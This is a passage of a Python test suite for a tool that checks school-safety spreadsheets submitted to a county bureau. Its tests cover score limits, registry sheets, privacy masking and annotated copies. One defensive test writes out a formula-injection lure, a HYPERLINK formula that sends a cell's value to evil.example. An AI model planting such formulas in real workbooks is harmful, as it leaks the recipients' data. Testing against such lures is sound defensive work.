    so (found by an audit: A1 3 then A1 0 on 2026-05-01 took 0 without a word).  The same points twice,
    or another day, say nothing."""
    book = bureau_book(("1001", "1002"))
    finding = book["督查記錄"][1]
    assessed = finding[:2] + ["考評", None, None, "否", "否"]
    book["督查記錄"] += [assessed + ["A1", 3], assessed + ["A1", 0], assessed[:3] + ["複查"] + assessed[4:] + ["A1", 0],
                      [date(2026, 6, 1)] + assessed[1:] + ["A1", 2]]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    [note] = report.problems
    assert (note.level, note.sheet, note.row, note.column) == ("note", "督查記錄", 4, "考評得分")
    assert "row 3: 3, this row: 0" in note.reason_en and "按本行計" in note.reason_zh
    assert len(report.rows["inspections"]) == 5


def test_assessed_points_at_the_indicator_maximum_are_accepted(tmp_path):
    book = bureau_book()
    book["督查記錄"][1][7:9] = ["e1", 5]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    assert not report.problems
    assert report.rows["inspections"][0]["indicator"] == "E1"


@pytest.mark.parametrize("typed", ["E 1", "Ｅ　１", " e1 "])
def test_an_indicator_typed_with_a_stray_space_is_the_indicator(tmp_path, typed):
    """data-contract.md forgives stray spaces: 「E 1」 is E1, as 「 e1 」 and 「Ｅ１」 already were (found by a
    contract audit: the assessment was refused, the indicator's computed points standing instead)."""
    book = bureau_book()
    book["督查記錄"][1][7:9] = [typed, 5]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    assert not report.problems, report.lines()
    assert report.rows["inspections"][0]["indicator"] == "E1"


def test_an_indicator_that_is_none_is_quoted_as_typed(tmp_path):
    """A problem names the value as the person typed it (data-contract.md), not its half-width form."""
    book = bureau_book()
    book["督查記錄"][1][7:9] = ["E1（視頻監控）", 5]
    p = _the_findings_problem(check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY))
    assert "'E1（視頻監控）' does not exist" in p.reason_en and "「E1（視頻監控）」不存在" in p.reason_zh


def test_assessed_c4_points_for_a_school_below_high_school_level_are_outside_its_maximum_of_0(tmp_path):
    """rules.md: assessed points outside [0, that indicator's max] are refused by the sync; C4 is high
    school level only, so a 小學's C4 maximum is 0 (found by an audit: 3 points were taken, then counted
    nowhere).  0 is inside; a 高中's C4 stands."""
    book = bureau_book(("1001", "1002"))
    book["學校名冊"][2][2] = "高中"
    finding = book["督查記錄"][1]
    book["督查記錄"] += [finding[:7] + ["C4", 3], [finding[0], "1002"] + finding[2:7] + ["C4", 3],
                      finding[:3] + ["考評C4為0"] + finding[4:7] + ["c4", 0]]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    p = _the_findings_problem(report)
    assert (p.sheet, p.row, p.column) == ("督查記錄", 3, "考評得分") and "applies only to" in p.reason_en
    assert "小學" in p.reason_zh and "C4滿分為0" in p.reason_zh
    assert [(r["school_code"], r["assessed_points"]) for r in report.rows["inspections"] if r["indicator"]] == [
        ("1002", 3.0), ("1001", 0.0)]


def test_a_second_registry_sheet_listing_other_schools_names_them(tmp_path):
    """Found by an audit: a registry split over 學校名冊 and 學校名冊（二） lost the second sheet's schools (their
    workbooks refused as unregistered) with only "not read; if an earlier year's archive, nothing to do".
    The note now names the schools the sheet read does not list; an archive listing the same schools keeps
    the plain note."""
    book = bureau_book(("1001", "1002"))
    book["學校名冊（二）"] = [book["學校名冊"][0], book["學校名冊"][2], ["1003", "東關中學", "初中", "城關鎮"]]
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    [note] = [p for p in report.problems if p.sheet == "學校名冊（二）"]
    assert note.level == "note" and "lists 1 school(s) that '學校名冊' does not (1003)" in note.reason_en
    assert "1003" in note.reason_zh and "其工作簿會被拒收" in note.reason_zh
    book["學校名冊（二）"] = book["學校名冊"][:2]
    [archive] = [p for p in check_file(write_xlsx(tmp_path / "archive.xlsx", book), today=TODAY).problems
                 if p.sheet == "學校名冊（二）"]
    assert "an earlier year's archive" in archive.reason_en


def test_a_school_listed_twice_in_the_registry_is_refused_once(tmp_path):
    book = bureau_book(("1001", "1002", "1001"))
    report = check_file(write_xlsx(tmp_path / "bureau.xlsx", book), today=TODAY)
    p = _only_row_problem(report)
    assert (p.sheet, p.row) == ("學校名冊", 4)


# ---------------------------------------------------------------- the annotated workbook

@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_the_annotated_workbook_highlights_the_bad_cell_with_its_reason(tmp_path, fmt):
    from openpyxl import load_workbook

    book = school_book()
    book["應急演練"][2][6] = 99
    path = write(fmt, tmp_path / "book", book)
    report = check_file(path, registry=REG, today=TODAY)
    data = annotate_workbook(path, report)
    wb = load_workbook(__import__("io").BytesIO(data))
    assert wb.sheetnames[0] == "問題 Problems"
    cell = wb["應急演練"]["G3"]
    assert cell.comment is not None and "cannot exceed" in cell.comment.text
    assert cell.fill.fgColor.rgb.endswith("FFC7CE")
    assert wb["應急演練"]["G2"].comment is None
    listing = [[c.value for c in row] for row in wb["問題 Problems"].iter_rows(min_row=2)]
    assert listing[0][1:4] == ["應急演練", 3, "簽到班級數"]


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_the_annotated_workbook_keeps_no_identity_or_phone_number(tmp_path, fmt):
    """The annotated copy is kept on the server for the school: a number refused for privacy is masked in
    it as in every report, not kept whole."""
    import zipfile

    from openpyxl import load_workbook

    book = school_book()
    book["保安人員"][0].append("身份證號")
    book["保安人員"][1].append("110101199801210011")
    book["保安人員"][2].append(13812345678)
    path = write(fmt, tmp_path / "book", book)
    report = check_file(path, registry=REG, today=TODAY)
    assert report.refused
    data = annotate_workbook(path, report)
    with zipfile.ZipFile(__import__("io").BytesIO(data)) as z:
        text = b"".join(z.read(n) for n in z.namelist())
    assert b"110101199801210011" not in text and b"13812345678" not in text and b"12345678" not in text
    guards = load_workbook(__import__("io").BytesIO(data))["保安人員"]
    assert (guards["N2"].value, guards["N3"].value) == ("110…", "138…")


@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods"])
def test_a_bad_cell_in_a_merged_range_is_marked_and_a_copy_sent_back_reads_as_the_original(tmp_path, fmt):
    """Found by an audit: 2,000 yuan merged over two purchases (the row under it refused, as the README
    says) left an .xlsx with no annotated copy at all (openpyxl refuses a comment on a merged cell), and
    the copy of an .xls or .ods wrote 2,000 on both rows, unmerged: sent back unchanged, it was loaded
    with no problem and the sum counted twice.  The mark goes to the merged range's own cell; the copy
    merges what the school merged, and reads as the original did."""
    from openpyxl import load_workbook

    from tests.sync_helpers import write_merged

    book = school_book()
    book["安全經費"] = [book["安全經費"][0], [date(2026, 3, 1), "隱患整治", 2000], [date(2026, 3, 2), "安全宣傳", None]]
    book["應急演練"][2][6] = 99  # an unrelated bad cell, marked too
    path = write_merged(fmt, tmp_path / "merged", book, [("安全經費", 2, 1, 2)])
    report = check_file(path, registry=REG, today=TODAY)
    copy = load_workbook(__import__("io").BytesIO(annotate_workbook(path, report)))
    funds = copy["安全經費"]
    assert "merged with row 2" in funds["C2"].comment.text and funds["C3"].value is None
    assert "C2:C3" in [str(r) for r in funds.merged_cells.ranges]
    assert copy["應急演練"]["G3"].comment is not None
    again = tmp_path / "again.xlsx"
    copy.save(again)
    back = check_file(again, registry=REG, today=TODAY)
    assert [p.as_text() for p in back.problems] == [p.as_text() for p in report.problems if p.sheet != "問題 Problems"]


def test_an_identity_number_typed_as_a_number_into_a_count_is_not_kept_in_the_annotated_copy(tmp_path):
    """Found by an audit: typed into a count cell, Excel keeps an 18-digit identity number as the float
    1.10101199801210E+17; the report masked it, the annotated copy kept it whole."""
    from openpyxl import load_workbook

    book = school_book()
    book["應急演練"][1][7] = 110101199801210011
    path = write_xlsx(tmp_path / "book.xlsx", book)
    report = check_file(path, registry=REG, today=TODAY)
    assert [p.value for p in report.problems] == ["110…"]
    copy = load_workbook(__import__("io").BytesIO(annotate_workbook(path, report)))
    assert copy["應急演練"]["H2"].value == "110…"


def test_check_bytes_gives_the_same_report_as_check_file(tmp_path):
    path = write_xlsx(tmp_path / "s.xlsx", school_book("9999"))
    a = check_file(path, registry=REG, today=TODAY)
    b = check_bytes(path.read_bytes(), "s.xlsx", registry=REG, today=TODAY)
    assert [p.as_text() for p in a.problems] == [p.as_text() for p in b.problems] and a.refused


def test_the_annotated_copy_of_an_ods_keeps_formula_like_text_as_text(tmp_path):
    from openpyxl import load_workbook

    book = school_book()
    book["應急演練"][1][4] = "=HYPERLINK(\"http://x\")"
    book["應急演練"][1][6] = 99
    path = write(fmt="ods", path_stem=tmp_path / "book", book=book)
    data = annotate_workbook(path, check_file(path, registry=REG, today=TODAY))
    ws = load_workbook(__import__("io").BytesIO(data))["應急演練"]
    assert ws["E2"].value == "=HYPERLINK(\"http://x\")" and ws["E2"].data_type == "s"


def test_the_annotated_copy_of_an_xlsx_keeps_formula_like_text_in_a_bad_cell_as_text(tmp_path):
    """Found by an audit: a refused cell holding the text =HYPERLINK(...) came back a live formula (openpyxl
    re-types text that starts with "=" when a value is written), in a copy the bureau downloads too."""
    import io

    from openpyxl import load_workbook

    path = write_xlsx(tmp_path / "book.xlsx", school_book())
    made = load_workbook(path)
    lure = '=HYPERLINK("http://evil.example/?d="&B2,"click to fix")'
    made["應急演練"]["A2"].value = lure  # typed as text in the date column: the row is refused, the cell marked
    made["應急演練"]["A2"].data_type = "s"
    made.save(path)
    report = check_file(path, registry=REG, today=TODAY)
    assert any(p.sheet == "應急演練" and p.row == 2 and p.col_no == 1 for p in report.problems)
    copy = load_workbook(io.BytesIO(annotate_workbook(path, report)))["應急演練"]
    assert copy["A2"].comment is not None
    assert (copy["A2"].value, copy["A2"].data_type) == (lure, "s")


def test_school_codes_are_codes_even_when_they_look_like_a_mobile_number(tmp_path):
    code = "13912345678"
    report = _check(tmp_path, school_book(code), registry={code})
    assert not report.problems and report.school_code == code


def test_a_phone_number_in_the_signature_line_is_not_a_column_and_is_not_stored(tmp_path):
    book = school_book()
    book["應急演練"].append(["填表人:張三", None, "聯繫電話:13812345678"])
    report = _check(tmp_path, book)
    assert not report.problems and len(report.rows["drills"]) == 2


@pytest.mark.parametrize("where", ["title above the header", "note under the table", "signature line"])
def test_an_identity_number_on_a_line_that_is_no_record_refuses_the_file(tmp_path, where):
    """Found by an audit: an identity-card number in a title or a note of 保安人員 was let through (the file
    is kept as sent), though on a sheet of its own it refused the file.  Unlike a contact phone, no form
    is signed with one."""
    book = school_book()
    line = {"title above the header": ["保安人員登記表(負責人 張三 110101198001011234)"],
            "note under the table": ["備註:保安隊長張三,身份證110101198001011234"],
            "signature line": ["填表人:張三", None, "身份證:110101198001011234"]}[where]
    if where == "title above the header":
        book["保安人員"].insert(0, line)
    else:
        book["保安人員"].append(line)
    report = _check(tmp_path, book)
    [problem] = report.file_problems
    assert problem.sheet == "保安人員" and "identity-card" in problem.reason_en
    assert "1234" not in problem.value and all("1011234" not in n["text"] for n in report.notes)


def test_a_phone_number_in_a_note_under_the_table_is_shown_masked_never_whole(tmp_path):
    """data-contract.md: no phone numbers are collected; a note line is shown to the school, masked."""
    book = school_book()
    book["應急演練"].append(["如有疑問請致電安全辦張三老師 138 1234 5678 查詢"])
    report = _check(tmp_path, book)
    notes = [p for p in report.problems if p.level == "note"]
    assert len(notes) == 1 and not report.file_problems
    assert "138…" in notes[0].value and "5678" not in notes[0].value
    assert all("5678" not in n["text"] for n in report.notes)


def test_masking_a_note_keeps_its_dates_and_document_numbers():
    from sync.validate import masked_private

    line = "2026-03-05 檢查,文號 20260012345,聯繫 138 1234 5678"
    assert masked_private(line) == "2026-03-05 檢查,文號 20260012345,聯繫 138…"
    assert masked_private("電話 (0755)12345678") == "電話 (075…"


def test_a_workbook_of_thousands_of_bad_rows_is_marked_up_to_a_limit_and_says_so(tmp_path, monkeypatch):
    """99,000 bad rows took 104 s to mark up and a web worker with them: the first MARKED_PROBLEMS are
    marked in their sheets, the first LISTED_PROBLEMS listed, and the list's last line says how many
    there were (the limits made small here, as the sizes they stand for are slow on purpose)."""
    import io

    from openpyxl import load_workbook

    from sync import report as report_module

    monkeypatch.setattr(report_module, "MARKED_PROBLEMS", 5)
    monkeypatch.setattr(report_module, "LISTED_PROBLEMS", 8)
    book = school_book()
    header, first = book["應急演練"][0], book["應急演練"][1]
    book["應急演練"] = [header] + [[f"2026-13-{n:02d}", *first[1:]] for n in range(1, 13)]  # 12 bad dates
    path = write("xlsx", tmp_path / "book", book)
    report = check_file(path, registry=REG, today=TODAY)
    assert len(report.problems) == 12
    wb = load_workbook(io.BytesIO(annotate_workbook(path, report)))
    marked = [c for row in wb["應急演練"].iter_rows() for c in row if c.comment is not None]
    assert len(marked) == 5 and [c.row for c in marked] == [2, 3, 4, 5, 6]
    listing = [[c.value for c in row] for row in wb["問題 Problems"].iter_rows(min_row=2)]
    assert len(listing) == 8 + 1 and [line[2] for line in listing[:8]] == list(range(2, 10))
    assert "first 8 and the sheets mark the first 5 of 12" in listing[-1][6] and "前 8 個" in listing[-1][5]


def test_a_text_longer_than_any_stores_column_refuses_its_row_and_the_store_loads_the_rest(tmp_path, mariadb_url):
    """Found by an audit: an 80,000-character hazard description (MariaDB's TEXT holds 65,535 bytes) failed
    the whole source at the store, the valid hazards with it; now that row is refused, with its length."""
    from sync.load import run_sync
    from sync.migrate import upgrade
    from sync.store import make_engine

    book = school_book()
    book["隱患整改"].append(["H2", date(2026, 4, 1), "圍墻裂縫" * 5_000, "設施", "張主任", date(2026, 5, 1), None])
    book["隱患整改"].append(["H3", date(2026, 4, 2), "消防栓過期", "消防", "張主任", date(2026, 5, 2), None])
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    write_xlsx(inbox / "bureau.xlsx", bureau_book())
    write_xlsx(inbox / "1001.xlsx", book)
    engine = make_engine(mariadb_url)
    upgrade(engine)
    summary = run_sync(engine, inbox, sql_sources=[], today=TODAY, recompute=False)
    [school] = [o for o in summary.sources if o.source_key == "file:1001.xlsx"]
    assert (school.action, school.rows_rejected) == ("loaded", 1)
    [problem] = [p for p in school.problems if p.level == "row"]
    assert problem.column == "隱患描述" and "20,000 characters, at most 5,000" in problem.reason_en
    from sync.frames import load_frames

    assert sorted(load_frames(engine)["hazards"]["id"]) == ["H1", "H3"]
    engine.dispose()


def test_a_school_name_longer_than_the_rankings_column_is_refused_on_the_registry(tmp_path):
    book = bureau_book()
    book["學校名冊"][1][1] = "城關" * 101
    report = check_file(write_xlsx(tmp_path / "b.xlsx", book), today=TODAY)
    assert [(p.row, p.column) for p in report.row_problems] == [(2, "學校名稱")]
    assert "at most 200" in report.row_problems[0].reason_en


def test_today_is_the_countys_day_not_the_servers(tmp_path, monkeypatch):
    """Found by an audit: a server kept on UTC is on yesterday until 08:00 in Asia/Shanghai, and a gate
    duty kept at 07:20 was refused as "after today".  The day that is today on Kiritimati (UTC+14) is
    today for a county configured there, and still in the future for one at UTC-12, whatever the
    server's clock says."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from sync import settings

    kiritimati_today = datetime.now(ZoneInfo("Pacific/Kiritimati")).date()
    book = school_book()
    book["護學崗"].append([kiritimati_today, "本部", "早", "是"])
    path = write_xlsx(tmp_path / "s.xlsx", book)
    config = tmp_path / "safeschool.toml"
    monkeypatch.setenv("SAFESCHOOL_CONFIG", str(config))
    outcomes = {}
    for zone in ("Pacific/Kiritimati", "Etc/GMT+12"):  # Etc/GMT+12 is UTC-12 (POSIX signs)
        config.write_text(f'[schedule]\ntimezone = "{zone}"\n', encoding="utf-8")
        settings.reset_caches()
        assert settings.county_today() == datetime.now(ZoneInfo(zone)).date()
        report = check_file(path, registry={"1001"})
        outcomes[zone] = [p.reason_en for p in report.row_problems]
    settings.reset_caches()
    assert outcomes["Pacific/Kiritimati"] == []
    [future] = outcomes["Etc/GMT+12"]
    assert "after today" in future or "in the future" in future


@pytest.mark.parametrize("row_patch,column,fix_zh,fix_en", [
    ({1: "分校"}, "校區", "請改用表中的校區名稱，如是新校區請補入「校區」表",
     "use one of those names, or add the campus to the campuses sheet"),
    ({2: date(2015, 1, 1)}, "出生日期", "請核對出生日期和上崗日期", "check the birth date and the start date"),
])
def test_a_refused_guard_is_told_what_to_correct(tmp_path, row_patch, column, fix_zh, fix_en):
    """A review of the messages: an unlisted campus and an implausible age said what was wrong, not what to do."""
    book = school_book()
    for i, value in row_patch.items():
        book["保安人員"][1][i] = value
    p = _only_row_problem(_check(tmp_path, book))
    assert p.column == column and p.reason_zh.endswith(fix_zh) and p.reason_en.endswith(fix_en), p


@pytest.mark.parametrize("written,shown", [
    ("日期不合理,請檢查年份", "日期不合理，請檢查年份"),
    ("在今天(2026-11-28)之後;請核對", "在今天（2026-11-28）之後；請核對"),
    ("讀取時出錯(BadZipFile),請另存為 .xlsx", "讀取時出錯（BadZipFile），請另存為 .xlsx"),
    ("數據庫的原話:relation x does not exist", "數據庫的原話：relation x does not exist"),
    ("請填 0 至 5 (含)", "請填 0 至 5（含）"),
    ("之前導入過 3 個 (共享文件夾是否已掛載?),請核對", "之前導入過 3 個（共享文件夾是否已掛載?），請核對"),
    ("the registry (學校名冊) is empty; sync it", "the registry (學校名冊) is empty; sync it"),  # an English gloss
    ("共 1,000 人, 09:30 開始", "共 1,000 人，09:30 開始"),  # digits' own comma and colon stay
    ("校區「本部(東區),甲」不在表中", "校區「本部(東區),甲」不在表中"),  # the cell as written
    ("sqlite:///data/x.db 不存在", "sqlite:///data/x.db 不存在"),
    ("另存為 Excel (.xlsx), then 重新提交", "另存為 Excel (.xlsx), then 重新提交"),  # among Latin words
])
def test_a_chinese_reason_is_punctuated_as_chinese_with_the_cells_own_value_as_written(written, shown):
    from sync.errors import UserError, chinese_punctuation
    from sync.validate import Problem

    assert chinese_punctuation(written) == shown
    assert Problem("row", "應急演練", 2, "演練日期", "x", written, "en").reason_zh == shown
    assert UserError("en", zh=written).zh == shown


@pytest.mark.parametrize("boarding, boarders, sheet, column, words", [
    ("否", 300, "校區", "寄宿生數", "yet this campus has 300 boarders"),
    ("是", 0, "學校概況", "寄宿制", "no campus on the campuses sheet has boarders"),
    ("是", None, "學校概況", "寄宿制", "no campus on the campuses sheet has boarders"),
])
def test_boarding_and_the_campuses_boarders_saying_two_things_is_a_note_saying_which_counts(
        tmp_path, boarding, boarders, sheet, column, words):
    """rules.md E1 (4.5.1): guards required rise by 2 per full 300 boarders of a campus, whatever 寄宿制 says
    (a day school's 300 boarders need 2 more).  Found by an audit of E1: the two disagreeing was not said.
    A note, not a refusal: the rows load and the school is told which figure counts."""
    book = school_book()
    book["學校概況"][1][4] = boarding
    book["校區"][1][3] = boarders
    report = _check(tmp_path, book)
    [note] = report.problems
    assert (note.level, note.sheet, note.column) == ("note", sheet, column) and words in note.reason_en
    assert "應配保安人數按寄宿生數增加" in note.reason_zh and "請" in note.reason_zh
    assert len(report.rows["campuses"]) == 1 and len(report.rows["school"]) == 1


@pytest.mark.parametrize("boarding, boarders", [("否", 0), ("否", None), ("是", 300)])
def test_boarding_and_boarders_that_agree_say_nothing(tmp_path, boarding, boarders):
    book = school_book()
    book["學校概況"][1][4] = boarding
    book["校區"][1][3] = boarders
    assert not _check(tmp_path, book).problems
